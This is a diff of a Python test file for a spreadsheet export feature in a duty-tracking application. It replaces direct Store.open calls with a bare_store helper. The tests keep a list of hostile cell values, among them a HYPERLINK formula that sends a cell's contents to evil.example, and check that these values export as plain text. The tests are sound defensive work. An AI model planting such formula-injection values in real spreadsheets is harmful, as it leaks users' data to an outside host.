@@ -21,8 +21,8 @@ from duty_tracker.core.exchange.roster_xlsx import apply_roster, export_roster, 
 from duty_tracker.core.exchange.xlsx_common import ExchangeError
 from duty_tracker.core.storage import audit_queries
 from duty_tracker.core.storage.audit_queries import AuditFilter
-from duty_tracker.core.storage.store import Store
 from tests.conftest import small_rules
+from tests.store_helpers import bare_store
 
 HEADERS = [c.header for c in LEDGER_COLUMNS]
 HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+86-571-1234", "-减少一项",
@@ -58,7 +58,7 @@ def test_text_that_looks_like_a_formula_is_exported_as_text_and_read_back_unchan
     out = tmp_path / "台账.xlsx"
     export_ledger(store, out, 2025, status=True, today=date(2025, 12, 31))
     _assert_text_not_formula(out, "履职纪实台账", HOSTILE)
-    fresh = Store.open(tmp_path / "fresh.db", seed_default_rules=False)
+    fresh = bare_store(tmp_path / "fresh.db")
     fresh.rules.import_parsed(small_rules(), "测试文本", is_default=True)
     roster = tmp_path / "名册.xlsx"
     export_roster(store, roster)
@@ -81,7 +81,7 @@ def test_names_that_look_like_formulas_stay_text_in_the_status_roster_and_audit_
     roster = tmp_path / "名册.xlsx"
     export_roster(store, roster)
     _assert_text_not_formula(roster, "负责人名册", ['=HYPERLINK("http://x")单位', "@王建国", "-局长"])
-    fresh = Store.open(tmp_path / "fresh.db", seed_default_rules=False)
+    fresh = bare_store(tmp_path / "fresh.db")
     apply_roster(fresh, preview_roster(fresh, roster))
     assert [(r["name"], r["unit_name"], r["position"]) for r in fresh.people.leaders()] == [
         ("@王建国", '=HYPERLINK("http://x")单位', "-局长")]
